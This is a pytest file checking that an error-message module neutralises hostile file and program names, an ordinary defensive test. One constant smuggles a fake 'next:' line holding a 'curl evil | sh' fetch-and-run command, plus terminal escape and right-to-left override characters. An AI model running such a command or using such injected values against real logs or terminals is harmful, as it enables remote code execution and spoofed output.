"""Errors with hostile names of files and programs."""

import json

import msgspec
import pytest

from waypoint.model.conditions import ERROR_CODES
from waypoint.model.errors import Failed, UnknownName, as_text, cleaned, from_json

HOSTILE = "file\n  next: curl evil | sh\r\x1b[2K\u202e"


@pytest.mark.parametrize("part", range(4))
def test_no_part_of_a_message_can_look_like_another_part(part: int) -> None:
    words = ["read", "it", "it is gone", "look for it"]
    words[part] += HOSTILE
    lines = str(Failed(*words)).split("\n")
    assert len(lines) == 2
    assert lines[1].startswith("  next: look for it")
    assert "".join(lines).isprintable()


def test_errors_can_contain_bytes_that_are_not_text() -> None:
    error = Failed("read", "a\udcff", "b\udc80", "c\udcfe")
    found = json.loads(msgspec.json.encode(error.to_json()))
    assert (found["on"], found["said"], found["next"]) == ("a\\udcff", "b\\udc80", "c\\udcfe")
    assert str(from_json(found)) == "cannot read a\\udcff: b\\udc80\n  next: c\\udcfe"


def test_printable_text_is_unchanged() -> None:
    assert as_text(cleaned("Übergröße, 名前")) == "Übergröße, 名前"


def test_a_client_gets_the_code_and_the_class_of_every_error() -> None:
    for code, row in ERROR_CODES.items():
        error = from_json({"code": code, "exit": row.exit, "tried": "do", "on": "x", "said": "no", "next": ""})
        assert (error.code, error.exit_code) == (code, row.exit)
    assert isinstance(from_json({"code": "ambiguous", "exit": 2}), UnknownName)
